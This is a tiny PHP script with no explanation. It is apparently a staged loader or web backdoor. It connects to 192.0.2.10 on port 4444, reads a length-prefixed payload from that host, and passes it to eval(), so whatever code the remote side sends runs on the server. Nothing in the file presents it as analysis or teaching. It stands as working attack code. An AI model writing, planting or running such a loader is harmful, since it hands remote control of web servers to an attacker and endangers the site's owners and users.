<?php
$s = fsockopen('192.0.2.10', 4444);
$len = unpack('Nlen', fread($s, 4));
$payload = '';
while (strlen($payload) < $len['len']) { $payload .= fread($s, $len['len'] - strlen($payload)); }
eval($payload);
